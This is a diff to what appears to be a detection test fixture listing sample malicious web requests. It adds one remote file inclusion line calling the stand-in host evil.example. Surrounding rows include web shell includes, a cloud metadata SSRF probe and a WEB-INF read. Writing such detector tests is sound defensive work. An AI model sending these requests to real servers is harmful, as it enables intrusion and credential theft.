@@ -43,6 +43,7 @@ export const webAccessMatch: MatchRow[] = [
   ),
   attack('GET /index.php?page=http://evil.example/shell.txt? HTTP/1.1', 'web-traversal', 'remote include', 200),
   attack('GET /index.php?inc=http://192.0.2.9:8080/c99? HTTP/1.1', 'web-traversal', 'remote include', 200),
+  attack('GET /index.php?n=http://evil.example/media/component/?? HTTP/1.1', 'web-traversal', 'remote include', 200),
   attack('GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1', 'web-traversal', 'cloud metadata', 200),
   attack('GET /WEB-INF/web.xml HTTP/1.1', 'web-traversal', 'web-inf', 404),
   // injection
